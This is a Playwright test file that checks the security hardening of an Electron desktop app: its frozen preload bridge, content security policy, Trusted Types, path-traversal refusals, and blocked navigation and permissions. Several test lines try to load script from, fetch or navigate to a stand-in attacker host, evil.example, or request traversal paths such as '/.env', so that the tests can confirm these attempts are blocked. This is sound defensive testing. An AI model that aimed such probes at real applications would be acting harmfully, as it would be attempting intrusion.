import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { expect, test as base, type ElectronApplication, type Page } from '@playwright/test'
import { hasElectron, launchDesktop } from './launch.ts'

// One app for the whole file, because no test here changes what the next one sees.
const test = base.extend<object, { desktop: { app: ElectronApplication; page: Page } }>({
  desktop: [
    async ({}, use) => {
      const userDataDir = mkdtempSync(join(tmpdir(), 'kitchen-pass-'))
      const desktop = await launchDesktop({ userDataDir })
      await use(desktop)
      await desktop.app.close()
      rmSync(userDataDir, { recursive: true, force: true })
    },
    { scope: 'worker' },
  ],
})
const onStandin = () => test.skip(hasElectron, 'asks the stand-in itself')

/** Runs in the page; a string, because the page's names are not among this project's Node types. */
const inPage = <T>(page: Page, script: string) => page.evaluate<T>(script)
const addressOf = (app: ElectronApplication) =>
  app.evaluate(({ BrowserWindow }) =>
    BrowserWindow.getAllWindows().map((one) => one.webContents.getURL()),
  )

test('the page has the bridge and nothing of Node or Electron', async ({ desktop: { page } }) => {
  expect(
    await inPage(
      page,
      `['require', 'process', 'module', 'Buffer', 'global', 'electron', 'ipcRenderer', 'contextBridge', '__dirname']
        .filter((name) => name in globalThis)`,
    ),
  ).toEqual([])
  expect(await inPage(page, `Object.keys(kitchenBridge).sort()`)).toEqual([
    'call',
    'chooseFile',
    'computer',
    'first',
    'onEvent',
    'onLink',
    'readPreferences',
    'saveExport',
    'savePdf',
    'writePreferences',
  ])
})

test('the bridge is frozen', async ({ desktop: { page } }) => {
  expect(
    await inPage(
      page,
      `(() => {
        const call = kitchenBridge.call
        try { kitchenBridge.call = () => 'mine' } catch {}
        try { delete kitchenBridge.call } catch {}
        try { window.kitchenBridge = {} } catch {}
        try { Object.defineProperty(window, 'kitchenBridge', { value: {} }) } catch {}
        return [Object.isFrozen(kitchenBridge), kitchenBridge.call === call]
      })()`,
    ),
  ).toEqual([true, true])
})

test('calls, refusals and events cross the bridge', async ({ desktop: { page } }) => {
  expect(await inPage(page, `kitchenBridge.call('status.get', {})`)).toMatchObject({
    ok: true,
    value: { mode: 'practice' },
  })
  for (const [name, input] of [
    ['no.such', {}],
    ['__proto__', {}],
    ['constructor', {}],
    ['tickets.undo', { ticketId: 7 }],
    ['tickets.undo', { ticketId: 'x', more: true }],
    ['status.get', null],
  ] as const) {
    expect(
      await inPage(page, `kitchenBridge.call(${JSON.stringify(name)}, ${JSON.stringify(input)})`),
    ).toMatchObject({ ok: false, error: { code: 'bad-input' } })
  }
  expect(await inPage(page, `kitchenBridge.call('x'.repeat(1e6), {})`)).toMatchObject({
    ok: false,
    error: { code: 'bad-input' },
  })
  expect(
    await inPage(
      page,
      `new Promise((resolve) => {
        const stop = kitchenBridge.onEvent((event) => {
          if (event.type !== 'settings.changed') return
          stop()
          resolve(event.settings.undoSeconds)
        })
        kitchenBridge.call('settings.change', { undoSeconds: 13 })
      })`,
    ),
  ).toBe(13)
  expect(await inPage(page, `new Promise((resolve) => kitchenBridge.onLink(resolve))`)).toBe('up')
})

test('the first view is handed over once, and the page has taken it', async ({
  desktop: { page },
}) => {
  await expect(page.getByRole('article').first()).toBeVisible()
  expect(await inPage(page, `kitchenBridge.first()`)).toBeNull()
})

test('what cannot be cloned is refused before it is sent', async ({ desktop: { page } }) => {
  for (const input of ['new Proxy({}, {})', `Symbol('x')`]) {
    expect(
      await inPage(
        page,
        `(async () => kitchenBridge.call('status.get', ${input}))().then(() => 'sent', ({ message }) => message)`,
      ),
    ).toContain('could not be cloned')
  }
})

test('preferences are kept, and only whole ones', async ({ desktop: { page } }) => {
  const stored = await inPage<object>(page, `kitchenBridge.readPreferences()`)
  const changed = { ...stored, volume: 0.25 }
  await inPage(page, `kitchenBridge.writePreferences(${JSON.stringify(changed)})`)
  expect(await inPage(page, `kitchenBridge.readPreferences()`)).toEqual(changed)
  expect(await inPage(page, `kitchenBridge.writePreferences({ theme: 'pink' })`)).toMatchObject({
    ok: false,
    error: { code: 'bad-input' },
  })
  expect(await inPage(page, `kitchenBridge.readPreferences()`)).toEqual(changed)
})

test('no frame but the top one has a bridge', async ({ desktop: { page } }) => {
  expect(
    await inPage(
      page,
      `new Promise((resolve) => {
        const refused = (attempt) => { try { attempt() } catch { return true } }
        const frames = ['about:blank', 'empty'].map((kind) => {
          const frame = document.createElement('iframe')
          if (kind === 'about:blank') frame.src = kind
          document.body.append(frame)
          return frame
        })
        // The page can't create such markup either.
        if (!refused(() => { frames[0].srcdoc = '<p>x</p>' })) throw new Error('srcdoc was taken')
        setTimeout(() => {
          resolve(frames.map(({ contentWindow }) => typeof contentWindow.kitchenBridge))
          for (const frame of frames) frame.remove()
        }, 200)
      })`,
    ),
  ).toEqual(['undefined', 'undefined'])
})

test('there is no channel beside ours', async ({ desktop: { app } }) => {
  expect(
    await app.evaluate(({ ipcMain }) =>
      ipcMain.eventNames().filter((name) => name !== 'newListener'),
    ),
  ).toEqual([])
})

test('the policy is in force: no inline script, no eval, no other origin, no frame', async ({
  desktop: { page },
}) => {
  const violation = (attempt: string) =>
    inPage(
      page,
      `new Promise((resolve) => {
        document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), { once: true })
        ${attempt}
      })`,
    )
  expect(
    await violation(`const script = document.createElement('script'); script.append('window.stolen = 1')
      document.head.append(script)`),
  ).toBe('require-trusted-types-for')
  expect(await inPage(page, `'stolen' in window`)).toBe(false)
  expect(await violation(`setTimeout(() => { (0, Function)('return 1')() })`)).toBe(
    'require-trusted-types-for',
  )
  // What Trusted Types don't check is blocked because of its origin.
  expect(await violation(`import('https://evil.example/x.js').catch(() => {})`)).toBe(
    'script-src-elem',
  )
  expect(
    await violation(
      `WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).catch(() => {})`,
    ),
  ).toBe('script-src')
  // Plain text never becomes markup or a script, wherever it comes from.
  for (const sink of [
    `document.createElement('div').innerHTML = '<b>x</b>'`,
    `document.createElement('iframe').srcdoc = '<b>x</b>'`,
    `document.createElement('script').src = '/x.js'`,
    `new DOMParser().parseFromString('<b>x</b>', 'text/html')`,
  ])
    expect(await violation(`try { ${sink} } catch {}`)).toBe('require-trusted-types-for')
  expect(await violation(`try { trustedTypes.createPolicy('mine', {}) } catch {}`)).toBe(
    'trusted-types',
  )
  expect(await violation(`fetch('https://evil.example/').catch(() => {})`)).toBe('connect-src')
  expect(await violation(`new Image().src = 'https://evil.example/x.png'`)).toBe('img-src')
  expect(
    await violation(`const frame = document.createElement('iframe'); frame.src = 'https://evil.example/'
      document.body.append(frame)`),
  ).toBe('frame-src')
})

test('only files of the page are served', async ({ desktop: { page } }) => {
  const status = (path: string) =>
    inPage(
      page,
      `fetch(new URL(${JSON.stringify(path)}, location.href)).then(({ status }) => status)`,
    )
  expect(await status('/')).toBe(200)
  for (const path of [
    '/main/index.js',
    '/..%2fmain/index.js',
    '/%2e%2e/package.json',
    '/x.js',
    '/.env',
  ]) {
    expect(await status(path)).toBe(404)
  }
  expect(await inPage(page, `fetch('/', { method: 'POST' }).then(({ status }) => status)`)).toBe(
    405,
  )
})

test('navigation, popups and links out are denied', async ({ desktop: { app, page } }) => {
  const [address] = await addressOf(app)
  expect(address).toMatch(/^app:\/\/kitchen\/index\.html/)
  await inPage(page, `document.body.dataset.witness = 'same document'`)
  for (const attempt of [
    `location.href = 'https://evil.example/'`,
    `location.href = 'http://127.0.0.1:9/'`,
    `location.replace('/other.html')`,
    `window.open('https://evil.example/')`,
    `window.open('about:blank')`,
    `document.body.append(Object.assign(document.createElement('a'), { href: 'https://evil.example/', target: '_blank' })),
      document.body.lastElementChild.click(), document.body.lastElementChild.remove()`,
  ]) {
    await inPage(page, `(() => { ${attempt} })()`)
    // By the answer to this later question, the attempt has been blocked or is visible.
    await inPage(
      page,
      `kitchenBridge.call('status.get', {}).then(() => new Promise((done) => setTimeout(done, 100)))`,
    )
    expect(await addressOf(app)).toEqual([address])
    expect(await inPage(page, `document.body.dataset.witness`)).toBe('same document')
  }
  expect(app.windows()).toHaveLength(1)
})

test('only a listed page and a message to a guest are opened outside', async ({
  desktop: { app, page },
}) => {
  onStandin()
  const listed = 'https://www.electronjs.org/docs/latest/api/safe-storage'
  const messages = ['sms:+56912345678?&body=Hola', 'https://wa.me/56912345678?text=Hola']
  const tried = [listed, `${listed}?x`, ...messages, ...messages.map((one) => `${one}&x=y`)]
  await inPage(page, `(${JSON.stringify(tried)}.forEach((one) => window.open(one)), 0)`)
  const opened = () =>
    app.evaluate((electron) =>
      (electron as unknown as { standin: { calls: unknown[][] } }).standin.calls
        .filter(([name]) => name === 'shell.openExternal')
        .map(([, url]) => url),
    )
  await expect.poll(opened).toEqual([listed, ...messages])
})

test('every permission is denied', async ({ desktop: { page } }) => {
  for (const name of [
    'geolocation',
    'notifications',
    'camera',
    'microphone',
    'midi',
    'clipboard-read',
  ]) {
    expect(
      await inPage(
        page,
        `navigator.permissions.query({ name: '${name}' }).then(({ state }) => state)`,
      ),
    ).toBe('denied')
  }
})

test('the screen stays awake while the window is open and its setting says so', async ({
  desktop: { app, page },
}) => {
  onStandin()
  const asked = () =>
    app.evaluate((electron) =>
      (electron as unknown as { standin: { calls: unknown[][] } }).standin.calls.filter(([name]) =>
        String(name).startsWith('powerSaveBlocker'),
      ),
    )
  const start = ['powerSaveBlocker.start', 'prevent-display-sleep']
  const stop = ['powerSaveBlocker.stop', 'prevent-display-sleep']
  expect(await asked()).toEqual([start])
  const own = await inPage<object>(page, `kitchenBridge.readPreferences()`)
  const write = (changed: object) =>
    inPage(page, `kitchenBridge.writePreferences(${JSON.stringify({ ...own, ...changed })})`)
  await write({ keepAwake: false })
  await expect.poll(asked).toEqual([start, stop])
  await write({ keepAwake: false, volume: 0.3 })
  await write({ keepAwake: true })
  await expect.poll(asked).toEqual([start, stop, start])
})

test('from its sources, or on Linux, the app cannot start with the computer, and says so', async ({
  desktop: { page },
}) => {
  expect(await inPage(page, `kitchenBridge.computer.readAutostart()`)).toEqual({
    ok: true,
    value: 'unsupported',
  })
})

test('the menu has no way to harm', async ({ desktop: { app } }) => {
  const roles = await app.evaluate(({ Menu }) =>
    (Menu.getApplicationMenu()?.items ?? []).flatMap(({ submenu }) =>
      ((Array.isArray(submenu) ? submenu : (submenu?.items ?? [])) as { role?: string }[]).map(
        ({ role }) => role,
      ),
    ),
  )
  expect(roles.map((role) => role?.toLowerCase())).toEqual(
    expect.arrayContaining(['quit', 'copy', 'paste', 'zoomin', 'togglefullscreen']),
  )
  expect(roles).not.toContain('close')
  expect(roles).not.toContain('forceReload')
})

test('an API that the stand-in lacks fails by its name', async ({ desktop: { app } }) => {
  onStandin()
  const sentence = await app.evaluate(async (electron) => {
    const messageOf = async (attempt: () => unknown) => {
      try {
        await attempt()
        return 'nothing'
      } catch (cause) {
        return (cause as Error).message
      }
    }
    const { app: theApp, BrowserWindow, shell, Tray } = electron
    const [window] = BrowserWindow.getAllWindows()
    return Promise.all([
      messageOf(() => shell.openPath('x')),
      messageOf(() => new Tray('x')),
      messageOf(() => theApp.getFileIcon('x')),
      messageOf(() => theApp.on('gpu-info-update', () => {})),
      messageOf(() => theApp.getPath('music')),
      messageOf(() => window?.setOpacity(1)),
      messageOf(() => window?.webContents.capturePage()),
      messageOf(() => new BrowserWindow({ webPreferences: { sandbox: false } })),
      messageOf(() => new BrowserWindow({ transparent: true })),
      messageOf(() => BrowserWindow.getFocusedWindow()),
    ])
  })
  expect(sentence).toEqual(
    [
      'electron.shell.openPath',
      'electron.Tray',
      'electron.app.getFileIcon',
      `electron.app.on('gpu-info-update')`,
      `electron.app.getPath('music')`,
      'electron.BrowserWindow.setOpacity',
      'electron.webContents.capturePage',
      'webPreferences.sandbox false',
      'BrowserWindow option transparent',
      'electron.BrowserWindow.getFocusedWindow',
    ].map((what) => `stand-in: ${what} is not provided`),
  )
})

test('the page may load itself again', async ({ desktop: { app, page } }) => {
  // The part after the # belongs to the router, which starts after the page.
  const addressed = async () => (await addressOf(app)).map((each) => each.split('#')[0])
  const [address] = await addressed()
  await inPage(page, `document.body.dataset.witness = 'before'`)
  await inPage(page, `(location.reload(), 0)`)
  await page.waitForFunction(
    `document.body?.dataset.witness === undefined && 'kitchenBridge' in window`,
  )
  expect(await addressed()).toEqual([address])
  expect(await inPage(page, `kitchenBridge.call('status.get', {})`)).toMatchObject({ ok: true })
})
